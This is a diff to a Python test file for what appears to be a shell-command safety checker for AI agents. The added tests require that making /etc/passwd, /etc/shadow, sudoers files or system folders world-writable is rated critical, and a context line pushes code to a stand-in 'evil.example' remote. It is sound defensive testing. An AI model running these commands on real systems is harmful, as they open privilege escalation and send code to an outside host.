@@ -268,3 +268,24 @@ def test_a_push_to_a_remote_set_earlier_is_judged_by_its_url(cmd: str) -> None:
 def test_a_push_to_a_listed_remote_set_earlier_stays_approved() -> None:
     assert approved(shell("git remote set-url origin git@github.com:org/repo.git && git push origin feature"))
     assert found(shell("git remote add x https://evil.example/r && git push x")).get(GIT_PUSH_UNLISTED) is H
+
+
+# --- world-writable account files and system folders (docs QA) ------------------------------------------------
+@pytest.mark.parametrize(
+    ("cmd", "rule"),
+    [
+        ("chmod 777 /etc/passwd", "tool_use.privilege_escalation.system_auth_file"),
+        ("chmod o+w /etc/shadow", "tool_use.privilege_escalation.system_auth_file"),
+        ("chmod a+w /etc/sudoers.d/dev", "tool_use.privilege_escalation.system_auth_file"),
+        ("chmod 777 /etc", "tool_use.privilege_escalation.world_writable_system"),
+        ("chmod 0777 /usr/local/bin", "tool_use.privilege_escalation.world_writable_system"),
+    ],
+)
+def test_a_world_writable_account_file_or_system_folder_is_critical(cmd: str, rule: str) -> None:
+    # Before: high (world_writable), so a human was asked; anyone may then add a root account or replace a binary.
+    assert found(shell(cmd)).get(rule) is Severity.critical, found(shell(cmd))
+
+
+@pytest.mark.parametrize("cmd", ["chmod 777 /etc/nginx/nginx.conf", "chmod 777 build/run.sh", "chmod 777 ~"])
+def test_other_world_writable_paths_stay_high(cmd: str) -> None:
+    assert found(shell(cmd)) == {"tool_use.privilege_escalation.world_writable": H}
